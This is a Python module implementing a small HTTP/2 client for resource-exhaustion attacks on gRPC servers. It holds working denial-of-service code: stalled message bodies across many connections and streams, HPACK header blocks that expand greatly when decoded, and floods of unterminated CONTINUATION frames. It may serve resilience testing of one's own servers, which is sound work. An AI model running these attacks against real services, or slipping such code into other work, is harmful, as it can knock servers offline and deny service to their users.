"""An HTTP/2 client of a few frame types, which can misbehave unlike a gRPC client.

It obeys flow control, as an attacker must who wants the server to buffer: bytes beyond the window break
the connection and with it the attack.
"""

import asyncio
import ssl
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from itertools import count
from typing import Self

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_ACK, _END_HEADERS = 1, 4
_INITIAL_WINDOW_SETTING = 4
_FRAME_BYTES = 16_384


class Gone(Exception):
    """The server closed the connection or reset the stream."""


class Connection:
    """One connection. ``sent`` counts the bytes of bodies that the server accepted."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self._streams = count(1, 2)
        self._window = self._initial = 65_535
        self._stream_windows: dict[int, int] = {}
        self._news = asyncio.Condition()
        self.open: set[int] = set()
        self.ended = self.ready = False
        self.pongs = 0
        self.goaway = b""
        self.sent = 0
        self._task = asyncio.create_task(self._read())

    @classmethod
    async def dial(cls, target: str) -> Self:
        """Connect and exchange settings."""
        host, _, port = target.rpartition(":")
        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port))
        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        return cls(reader, writer)

    async def call(self, method: str) -> int:
        """Open a stream for ``/package.Service/Method``; its identifier."""
        number = next(self._streams)
        block = b"".join(_field(name, value) for name, value in _request(method))
        self._stream_windows[number] = self._initial
        self.open.add(number)
        self._writer.write(_frame(_HEADERS, _END_HEADERS, number, block))
        await self._drain()
        return number

    async def ping(self) -> None:
        """Send a ping, and wait until the server answers it or ends the connection."""
        wanted = self.pongs + 1
        self._writer.write(_frame(_PING, 0, 0, bytes(8)))
        await self._drain()
        async with self._news:
            await self._news.wait_for(lambda: self.pongs >= wanted or self.ended)

    async def begin_message(self, stream: int, length: int) -> None:
        """Send a message's prefix, which declares ``length`` bytes."""
        await self.body(stream, b"\0" + length.to_bytes(4, "big"))

    async def body(self, stream: int, data: bytes) -> None:
        """Send part of a body, as the windows allow."""
        rest = memoryview(data)
        while rest:
            async with self._news:
                await self._news.wait_for(lambda: self._room(stream) > 0 or self._over(stream))
            if self._over(stream):
                raise Gone
            size = min(self._room(stream), _FRAME_BYTES, len(rest))
            self._window -= size
            self._stream_windows[stream] -= size
            self._writer.write(_frame(_DATA, 0, stream, bytes(rest[:size])))
            self.sent += size
            rest = rest[size:]
            await self._drain()

    async def wait_over(self, stream: int) -> None:
        """Wait until the server ended the stream or the connection."""
        async with self._news:
            await self._news.wait_for(lambda: self._over(stream))

    async def wait_ready(self) -> None:
        """Wait for the server's settings.

        Raises:
            ConnectionError: It closed the connection instead.
        """
        async with self._news:
            await self._news.wait_for(lambda: self.ready or self.ended)
        if not self.ready:
            raise ConnectionError

    async def wait_ended(self) -> None:
        """Wait until the server ended the connection."""
        async with self._news:
            await self._news.wait_for(lambda: self.ended)

    async def close(self) -> None:
        """Close the connection."""
        self._task.cancel()
        self._writer.transport.abort()
        await asyncio.wait([self._task])

    def _over(self, stream: int) -> bool:
        return self.ended or stream not in self.open

    def _room(self, stream: int) -> int:
        return min(self._window, self._stream_windows.get(stream, 0))

    async def _drain(self) -> None:
        try:
            await self._writer.drain()
        except OSError as error:
            raise Gone from error

    async def _read(self) -> None:
        try:
            while True:
                head = await self._reader.readexactly(9)
                size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
                stream = int.from_bytes(head[5:], "big") & 0x7FFFFFFF
                body = await self._reader.readexactly(size)
                async with self._news:
                    self._take(kind, flags, stream, body)
                    self._news.notify_all()
                if kind == _GOAWAY:
                    return
        except (OSError, asyncio.IncompleteReadError):
            return
        finally:
            self.ended = True
            async with self._news:
                self._news.notify_all()

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        match kind:
            case 4 if not flags & _ACK:
                for at in range(0, len(body), 6):
                    if int.from_bytes(body[at : at + 2], "big") == _INITIAL_WINDOW_SETTING:
                        new = int.from_bytes(body[at + 2 : at + 6], "big")
                        for number in self._stream_windows:
                            self._stream_windows[number] += new - self._initial
                        self._initial = new
                self.ready = True
                self._writer.write(_frame(_SETTINGS, _ACK, 0, b""))
            case 6 if not flags & _ACK:
                self._writer.write(_frame(_PING, _ACK, 0, body))
            case 6:
                self.pongs += 1
            case 7:
                # What follows the last stream and the error code: its reason.
                self.goaway = body[8:]
            case 8:
                size = int.from_bytes(body, "big")
                if stream:
                    self._stream_windows[stream] = self._stream_windows.get(stream, 0) + size
                else:
                    self._window += size
            case 1:
                if flags & 1:
                    self.open.discard(stream)
            case 3:
                self.open.discard(stream)
            case _:
                pass


@asynccontextmanager
async def endless_bodies(
    target: str,
    method: str,
    *,
    length: int,
    connections: int = 10,
    streams: int = 100,
) -> AsyncIterator[list[Connection]]:
    """Send messages that never end for as long as the block lasts, anew whenever the server ends one.

    Args:
        target: The listener, ``host:port``.
        method: ``/package.Service/Method``.
        length: Declared length of each message, bytes; the last byte is never sent. A length beyond the
            server's limit would be refused at once.
        connections: Number of connections.
        streams: Concurrent streams of each.
    """
    unfinished = bytes(length - 1)
    made: list[Connection] = []

    async def one(connection: Connection) -> None:
        while not connection.ended:
            try:
                stream = await connection.call(method)
                await connection.begin_message(stream, length)
                await connection.body(stream, unfinished)
                await connection.wait_over(stream)
            except Gone:
                await asyncio.sleep(0.02)

    async def many() -> None:
        while True:
            try:
                connection = await Connection.dial(target)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            made.append(connection)
            await asyncio.gather(*(one(connection) for _ in range(streams)))

    tasks = [asyncio.create_task(many()) for _ in range(connections)]
    try:
        yield made
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        for connection in made:
            await connection.close()


def tiny_fields(method: str, size: int) -> bytes:
    """A header block of about ``size`` bytes: as many fields as fit, which take much more memory decoded."""
    start = b"".join(_field(name, value) for name, value in _request(method))
    field = _field("a", "")
    return start + field * (size // len(field))


def references(method: str, size: int) -> bytes:
    """A header block of about ``size`` bytes, each a reference to one header of 3.9 KB (RFC 7541, 6.1)."""
    start = b"".join(_field(name, value) for name, value in _request(method))
    return start + b"\x40" + _text("x-a") + _text("v" * 3_900) + b"\xbe" * size


async def send_headers(
    target: str,
    block: bytes,
    *,
    connections: int,
    tls: ssl.SSLContext | None = None,
    name: str | None = None,
    source: str = "127.0.0.1",
) -> int:
    """Send one header block without an end on each of many connections, in CONTINUATION frames.

    Args:
        target: The listener, ``host:port``.
        connections: The number of connections, all at once.
        tls: TLS of the connections; ``None`` for plaintext.
        name: The name of the server for TLS.
        source: The address of this machine to connect from.

    Returns:
        The bytes of headers that were sent before the other side closed the connections.
    """
    host, _, port = target.rpartition(":")

    async def one() -> int:
        sent = 0
        writer = None
        try:
            _, writer = await asyncio.open_connection(
                host.strip("[]"),
                int(port),
                ssl=tls,
                server_hostname=name,
                local_addr=(source, 0),
            )
            writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
            for start in range(0, len(block), _FRAME_BYTES):
                part = block[start : start + _FRAME_BYTES]
                writer.write(_frame(_CONTINUATION if start else _HEADERS, 0, 1, part))
                await writer.drain()
                sent += len(part)
        except OSError:
            pass
        finally:
            if writer is not None:
                writer.transport.abort()
        return sent

    return sum(await asyncio.gather(*(one() for _ in range(connections))))


def _request(method: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _field(name: str, value: str) -> bytes:
    """A field that enters no table (RFC 7541, 6.2.2)."""
    return b"\0" + _text(name) + _text(value)


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def _text(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 127:
        return bytes((len(raw),)) + raw
    rest, length = len(raw) - 127, b"\x7f"
    while rest >= 128:
        length += bytes((rest % 128 + 128,))
        rest //= 128
    return length + bytes((rest,)) + raw
